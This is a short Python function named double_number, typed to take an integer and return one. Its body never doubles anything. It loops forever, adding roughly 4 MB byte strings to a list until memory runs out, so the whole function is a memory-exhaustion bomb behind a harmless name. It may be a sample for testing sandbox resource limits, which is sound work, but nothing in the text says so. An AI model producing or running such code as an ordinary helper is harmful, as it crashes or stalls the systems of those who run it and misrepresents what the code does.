def double_number(n: int) -> int:
    held = []
    while True:
        held.append(b"x" * 2**22 + bytes([len(held) % 256]))
